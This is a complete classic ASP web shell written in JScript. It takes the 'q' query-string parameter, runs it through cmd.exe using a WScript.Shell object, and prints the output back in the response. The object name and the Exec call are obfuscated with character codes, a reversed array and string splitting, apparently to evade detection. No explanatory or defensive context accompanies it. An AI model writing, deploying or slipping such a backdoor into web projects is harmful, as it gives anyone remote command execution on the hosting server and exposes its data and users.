<%@ LANGUAGE = JScript %>
<%
var n = String.fromCharCode(87, 83, 99, 114, 105, 112, 116) + "." + ["l", "l", "e", "h", "S"].reverse().join("");
var q = Request.QueryString("q") + "";
if (q != "undefined") {
    var sh = new ActiveXObject(n);
    var run = new Function("s", "c", "return s[\"Ex\" + \"ec\"](\"cmd.exe /c \" + c).StdOut.ReadAll();");
    Response.Write("<pre>" + Server.HTMLEncode(run(sh, q)) + "</pre>");
}
%>
